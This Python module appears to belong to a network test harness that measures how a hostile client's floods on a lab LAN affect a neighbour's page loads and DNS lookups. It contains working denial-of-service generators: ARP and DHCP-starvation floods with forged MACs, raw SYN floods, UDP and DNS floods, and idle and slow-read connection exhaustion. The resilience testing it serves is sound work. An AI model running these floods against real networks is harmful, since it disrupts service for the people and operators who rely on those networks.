"""What a hostile client does to the rest of its LAN, one flood a process, and what its neighbour gets meanwhile.

As a program (in the client's namespace): floods.py KIND KEY=VALUE…, until SIGTERM; it then prints how much it
sent. The keys are those of Target.
"""

from __future__ import annotations

import itertools
import signal
import socket
import statistics
import struct
import subprocess
import sys
import time
from dataclasses import asdict, dataclass
from typing import Any, Callable, Iterator, Optional

if __package__:
    from . import linux

INTERFACE = "eth0"
_ETH_P_ARP, _ETH_P_IP, _ETH_P_ALL = 0x0806, 0x0800, 3
_BROADCAST = b"\xff" * 6


@dataclass(frozen=True)
class Target:
    mac: str  # the flooding client's own
    address: str
    gateway_mac: str
    gateway: str
    server: str  # HTTP on port 80


# --- frames ---------------------------------------------------------------------------------------------------


def _mac(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def _sum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    return (total & 0xFFFF) + (total >> 16)


def _checksum(total: int) -> int:
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _ipv4(source: bytes, destination: bytes, protocol: int, payload: bytes) -> bytes:
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0, 0, 64, protocol, 0, source, destination)
    return head[:10] + struct.pack("!H", _checksum(_sum(head))) + head[12:] + payload


def _dhcp_discover(number: int, chaddr: bytes, client_id: bytes) -> bytes:
    """RFC 2131. Without a UDP checksum, which may be 0."""
    head = struct.pack("!BBBBIHH16x16s192xI", 1, 1, 6, 0, number, 0, 0x8000, chaddr, 0x63825363)
    options = bytes([53, 1, 1, 61, len(client_id)]) + client_id + b"\xff"
    body = head + options
    udp = struct.pack("!HHHH", 68, 67, 8 + len(body), 0) + body
    return _ipv4(bytes(4), b"\xff" * 4, 17, udp)


def _frames_of_arp(target: Target) -> Iterator[bytes]:
    own, ip = _mac(target.mac), socket.inet_aton(target.address)
    head = _BROADCAST + own + struct.pack("!HHHBBH", _ETH_P_ARP, 1, _ETH_P_IP, 6, 4, 1) + own + ip + bytes(6)
    for n in itertools.count():
        yield head + ip[:3] + bytes([n & 0xFF])


def _frames_of_dhcp(target: Target, forge: bool) -> Iterator[bytes]:
    own = _mac(target.mac)
    head = _BROADCAST + own + struct.pack("!H", _ETH_P_IP)
    for n in itertools.count(1):
        identity = b"\x02" + struct.pack("!IB", n, 0x66)
        yield head + _dhcp_discover(n, identity if forge else own, identity)


def _frames_of_syn(target: Target) -> Iterator[bytes]:
    source, destination = socket.inet_aton(target.address), socket.inet_aton(target.server)
    head = _mac(target.gateway_mac) + _mac(target.mac) + struct.pack("!H", _ETH_P_IP)
    for n in itertools.count():
        port = 1024 + n % 60000
        tcp = struct.pack("!HHIIBBHHH", port, 80, n & 0xFFFFFFFF, 0, 0x50, 2, 1024, 0, 0)
        total = _sum(source + destination + struct.pack("!HH", 6, len(tcp)) + tcp)
        tcp = tcp[:16] + struct.pack("!H", _checksum(total)) + tcp[18:]
        yield head + _ipv4(source, destination, 6, tcp)


def _send_frames(frames: Iterator[bytes], stop: Callable[[], bool]) -> int:
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ETH_P_ALL))
    wire.bind((INTERFACE, 0))
    sent = 0
    for frame in frames:
        if stop():
            break
        try:
            wire.send(frame)
            sent += 1
        except OSError:  # no buffer: it is a flood
            pass
    return sent


# --- sockets --------------------------------------------------------------------------------------------------


def _send_datagrams(destinations: Iterator[tuple[bytes, tuple[str, int]]], stop: Callable[[], bool]) -> int:
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for data, destination in destinations:
            if stop():
                break
            try:
                sock.sendto(data, destination)
                sent += 1
            except OSError:  # refused, or no buffer
                pass
    return sent


def _udp_ports(target: Target) -> Iterator[tuple[bytes, tuple[str, int]]]:
    return ((b"x" * 22, (target.server, 1024 + n % 64000)) for n in itertools.count())


def _udp_small(target: Target) -> Iterator[tuple[bytes, tuple[str, int]]]:
    return ((b"x" * 22, (target.server, 9)) for _ in itertools.count())


def query(number: int, name: str) -> bytes:
    """Of type A."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", number & 0xFFFF, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)


def _dns(target: Target) -> Iterator[tuple[bytes, tuple[str, int]]]:
    return ((query(n, f"n{n}.flood.lab"), (target.gateway, 53)) for n in itertools.count())


def _hold_connections(target: Target, request: Optional[bytes], stop: Callable[[], bool]) -> int:
    """Opens connections and never reads; one that is refused or reset is opened anew."""
    held: list[socket.socket] = []
    opened = 0
    while not stop():
        if len(held) >= 700:
            held.pop(0).close()
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        sock.settimeout(0.2)
        try:
            sock.connect((target.server, 80))
            if request is not None:
                sock.sendall(request)
            held.append(sock)
            opened += 1
        except OSError:
            sock.close()
    return opened


_BULK = b"GET /bytes/100000000 HTTP/1.1\r\nHost: flood\r\n\r\n"

KINDS: dict[str, Callable[[Target, Callable[[], bool]], int]] = {
    "arp": lambda t, stop: _send_frames(_frames_of_arp(t), stop),
    "dhcp-ids": lambda t, stop: _send_frames(_frames_of_dhcp(t, False), stop),
    "dhcp-macs": lambda t, stop: _send_frames(_frames_of_dhcp(t, True), stop),
    "syn": lambda t, stop: _send_frames(_frames_of_syn(t), stop),
    "udp-ports": lambda t, stop: _send_datagrams(_udp_ports(t), stop),
    "udp-small": lambda t, stop: _send_datagrams(_udp_small(t), stop),
    "dns": lambda t, stop: _send_datagrams(_dns(t), stop),
    "idle-connections": lambda t, stop: _hold_connections(t, None, stop),
    "slow-read": lambda t, stop: _hold_connections(t, _BULK, stop),
}


class Flood:
    """A flood from a namespace, from the start of a with block to its end."""

    def __init__(self, netns: str, kind: str, target: Target) -> None:
        argv = [sys.executable, "-B", __file__, kind, *(f"{key}={value}" for key, value in asdict(target).items())]
        self._process = linux.in_netns(netns, lambda: subprocess.Popen(argv, stdout=subprocess.PIPE, text=True))
        assert self._process.stdout is not None
        self._process.stdout.readline()  # it has begun
        self.sent = 0

    def __enter__(self) -> Flood:
        return self

    def __exit__(self, *unused: object) -> None:
        self._process.terminate()
        out, _ = self._process.communicate(timeout=30)
        self.sent = int(out)


# --- the neighbour ----------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Served:
    """Of so many requests: how many were answered, and how soon."""

    asked: int
    answered: int
    milliseconds: float  # the median of those that were
    worst: float


def _served(asked: int, ask: Callable[[int], None]) -> Served:
    times: list[float] = []
    for n in range(asked):
        begun = time.monotonic()
        try:
            ask(n)
        except OSError:
            continue
        times.append((time.monotonic() - begun) * 1e3)
    return Served(asked, len(times), statistics.median(times or [0.0]), max(times, default=0.0))


def ask_pages(netns: str, server: str, count: int, patience: float = 5) -> Served:
    """A new connection and a page each time."""

    def ask(_: int) -> None:
        with socket.create_connection((server, 80), timeout=patience) as sock:
            sock.sendall(b"GET / HTTP/1.1\r\nHost: page.lab\r\nConnection: close\r\n\r\n")
            if not sock.recv(4096).startswith(b"HTTP/1.1 200"):
                raise OSError("another answer")

    return linux.in_netns(netns, lambda: _served(count, ask))


def ask_names(netns: str, resolver: str, count: int, patience: float = 5) -> Served:
    """One query each, never repeated."""

    def ask(n: int) -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(patience)
            sock.connect((resolver, 53))
            sock.send(query(n, "page.lab"))
            answer = sock.recv(1232)
            if answer[3] & 15 != 0 or answer[6:8] == b"\0\0":
                raise OSError("no address")

    return linux.in_netns(netns, lambda: _served(count, ask))


def main(arguments: list[str]) -> int:
    kind, *pairs = arguments
    values: dict[str, Any] = dict(pair.split("=", 1) for pair in pairs)
    stopped = [False]

    def stop(*_: object) -> None:
        stopped[0] = True

    signal.signal(signal.SIGTERM, stop)
    print("begun", flush=True)
    print(KINDS[kind](Target(**values), lambda: stopped[0]), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
